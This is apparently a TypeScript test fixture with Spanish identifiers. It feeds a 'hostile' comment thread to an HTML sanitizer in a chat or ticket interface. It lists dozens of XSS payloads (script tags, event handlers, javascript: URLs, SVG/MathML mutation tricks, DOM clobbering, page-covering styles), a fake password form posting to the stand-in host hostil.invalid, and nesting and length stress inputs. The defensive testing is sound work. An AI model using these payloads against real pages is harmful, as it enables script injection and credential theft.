import type { Preparado } from './hilo-rico.ts';

/** Proof of an attack: a fooled page has `window.hostil`, or has requested `hostil.invalid`. */
const CODIGO = 'window.hostil=(window.hostil||0)+1';
const SITIO = 'https://hostil.invalid';
const NIVELES = 200;
const LINEAS = 5000;

const anidado = (abre: string, cierra: string, dentro: string) => abre.repeat(NIVELES) + dentro + cierra.repeat(NIVELES);
const lineas = Array.from({ length: LINEAS }, (_, index) => `Línea ${index + 1}`);

const agente = (texto: string, ...html: string[]): Preparado => ({
  autor: 'agente',
  html: [`<p>${texto}</p>`, ...html].join('\n'),
  texto,
});

/** Comments of an attacker, one per kind of attack. */
export const HILO_HOSTIL: readonly Preparado[] = [
  {
    autor: 'solicitante',
    html: null,
    texto: `Esto es texto y se lee tal cual: <script>${CODIGO}</script><img src=x onerror="${CODIGO}"> & <b>nada más</b>.`,
  },
  agente(
    'Guiones.',
    `<script>${CODIGO}</script>`,
    `<script src="${SITIO}/guion.js"></script>`,
    `<SCRIPT type="module">${CODIGO}</SCRIPT>`,
    `<scr<script>ipt>${CODIGO}</scr</script>ipt>`,
    `<noscript><p title="</noscript><img src=x onerror=${CODIGO}>"></noscript>`,
    `<template><script>${CODIGO}</script></template>`,
  ),
  agente(
    'Manejadores de eventos.',
    `<img src="x" onerror="${CODIGO}">`,
    `<img/src="x"/onerror=${CODIGO}>`,
    `<details open ontoggle="${CODIGO}"><summary>Ver</summary>Oculto</details>`,
    `<video autoplay poster="${SITIO}/cartel.png"><source src="x" onerror="${CODIGO}"></video>`,
    `<audio src="${SITIO}/audio.mp3" autoplay onerror="${CODIGO}"></audio>`,
    `<input autofocus onfocus="${CODIGO}">`,
    `<p tabindex="1" onpointerenter="${CODIGO}" onanimationstart="${CODIGO}" style="animation:appear 1s">Pasa por aquí</p>`,
    `<body onload="${CODIGO}"><marquee onstart="${CODIGO}">Noticias</marquee>`,
  ),
  agente(
    'Enlaces.',
    `<a href="javascript:${CODIGO}">uno</a>`,
    `<a href=" &#14; jav&#x09;ascript&colon;${CODIGO}">dos</a>`,
    `<a href="JaVaScRiPt:${CODIGO}" target="_self">tres</a>`,
    `<a href="data:text/html,<script>${CODIGO}</script>">cuatro</a>`,
    `<a href="vbscript:${CODIGO}">cinco</a>`,
    `<a href="blob:${SITIO}/1">seis</a>`,
    `<a href="/autogestion/login" download="virus.exe" ping="${SITIO}/ping">siete</a>`,
    `<map name="mapa"><area shape="default" href="javascript:${CODIGO}"></map><img usemap="#mapa" src="x" alt="mapa">`,
  ),
  agente(
    'SVG y MathML.',
    `<svg onload="${CODIGO}"><script>${CODIGO}</script><animate onbegin="${CODIGO}" attributeName="x" dur="1s"/></svg>`,
    `<svg><a xlink:href="javascript:${CODIGO}"><text y="20">pulsa</text></a><use href="${SITIO}/mal.svg#a"/></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${CODIGO}</script>"></iframe></foreignObject></svg>`,
    `<svg><style><img src="</style><img src=x onerror=${CODIGO}>"></style></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CODIGO}&gt;"></mglyph></table></mtext></math>`,
    `<math href="javascript:${CODIGO}"><mi>x</mi></math>`,
  ),
  agente(
    'Estilos que tapan la página.',
    `<style>@import url("${SITIO}/estilo.css"); body{display:none!important} *{color:red!important}</style>`,
    `<link rel="stylesheet" href="${SITIO}/estilo.css">`,
    `<div style="position:fixed;inset:0;z-index:2147483647;background:red url(${SITIO}/fondo.png)">Su sesión terminó</div>`,
    '<div class="chakra-dialog" style="all:unset;position:absolute;top:-9999px">Fuera</div>',
    `<table background="${SITIO}/tabla.png" width="99999"><tr><td>Tabla</td></tr></table>`,
    '<p style="font-size:400px;margin-left:-5000px">Enorme</p>',
  ),
  agente(
    'Marcos y objetos.',
    `<iframe src="${SITIO}/marco.html"></iframe>`,
    `<iframe srcdoc="<script>parent.${CODIGO}</script>"></iframe>`,
    `<object data="${SITIO}/objeto.swf"><embed src="${SITIO}/objeto.swf"></object>`,
    `<embed src="javascript:${CODIGO}">`,
    `<frameset><frame src="${SITIO}/marco.html"></frameset>`,
    `<applet code="x"></applet><portal src="${SITIO}"></portal>`,
  ),
  agente(
    'Formularios.',
    `<form action="${SITIO}/robo" method="post"><label>Contraseña <input type="password" name="clave"></label><button>Ingresar</button></form>`,
    `<button formaction="javascript:${CODIGO}" type="submit">Enviar</button>`,
    '<select name="s"><option>uno</option></select><textarea name="t">dos</textarea><input type="image" src="x" alt="tres">',
    '<input form="respuesta" type="hidden" name="body" value="cambiado"><fieldset disabled><legend>Datos</legend></fieldset>',
    '<p contenteditable="true">Escribe aquí</p><dialog open>Diálogo</dialog><label for="root">Etiqueta</label>',
  ),
  agente(
    'Nombres que ya tienen dueño.',
    '<div id="root">raíz</div><div id="main">principal</div><p id="location" name="location">lugar</p>',
    '<img name="cookie"><img name="getElementById"><img name="querySelector"><img name="body"><img name="currentScript">',
    '<form id="localStorage"><input name="getItem"><input name="attributes"><input name="parentNode"></form>',
    '<a id="trustedTypes" href="https://www.ejemplo.do">a</a><a id="trustedTypes" name="createPolicy" href="https://www.ejemplo.do">b</a>',
    '<p data-testid="root" data-scope="dialog" slot="x" is="x-raiz" aria-hidden="true" role="alert">datos</p>',
  ),
  agente(
    'Cabeceras y cierres que no le tocan.',
    `<meta http-equiv="refresh" content="0;url=${SITIO}"><base href="${SITIO}/"><title>Otro título</title>`,
    '</p></div></div></li></ol></section></main></body></html><h1>Fuera de su caja</h1>',
    `<!--[if gte IE 4]><script>${CODIGO}</script><![endif]--><![CDATA[<img src=x onerror=${CODIGO}>]]><?xml version="1.0"?>`,
    `<xmp><img src=x onerror=${CODIGO}></xmp><div><template shadowrootmode="open"><slot></slot></template></div>`,
    `<textarea></textarea><img src=x onerror=${CODIGO}><!-- comentario sin fin <img src=x onerror=${CODIGO}><plaintext>`,
  ),
  agente(
    'Doscientos niveles.',
    anidado('<div>', '</div>', '<p>El fondo</p>'),
    anidado('<blockquote>', '</blockquote>', `<img src="x" onerror="${CODIGO}">`),
    anidado('<ul><li>', '</li></ul>', 'El fondo de la lista'),
    anidado('<b><i>', '</i></b>', 'El fondo del formato'),
  ),
  { autor: 'agente', html: `<p>Cinco mil líneas.</p><p>${lineas.join('<br>')}</p>`, texto: lineas.join('\n') },
];
